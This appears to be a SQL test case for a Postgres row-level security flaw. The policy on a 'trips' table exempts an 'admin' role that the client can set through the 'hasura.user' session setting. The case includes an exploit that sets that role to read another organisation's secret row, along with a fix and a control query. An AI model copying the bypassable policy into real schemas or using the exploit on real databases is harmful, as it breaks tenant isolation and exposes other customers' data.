-- What: Hasura's session variables come as one JSON setting; its role "admin" is exempt, the organisation stays what it was.
-- Class: policy_escape_setting
-- Object: public.trips
-- Exploit: The same setting, organisation A, role admin.
-- Column: org_id
-- Setting: hasura.user
-- Value: {"x-hasura-role": "user", "x-hasura-org-id": "{id}"}
-- @schema
create table trips (id bigint generated always as identity primary key, org_id uuid not null, body text not null);
alter table trips enable row level security;
alter table trips force row level security;
create policy org on trips using (nullif(current_setting('hasura.user', true), '')::json ->> 'x-hasura-role' = 'admin'
  or org_id::text = nullif(current_setting('hasura.user', true), '')::json ->> 'x-hasura-org-id');
grant select, insert, update, delete on trips to app_user;
-- @rows
insert into trips (org_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter policy org on trips using (org_id::text = nullif(current_setting('hasura.user', true), '')::json ->> 'x-hasura-org-id');
-- @control
select from trips where org_id = :'A';
-- @exploit
select set_config('hasura.user', '{"x-hasura-role": "admin", "x-hasura-org-id": "aaaaaaaa-0000-4000-8000-000000000001"}', false);
select body from trips where body = 'B-secret';
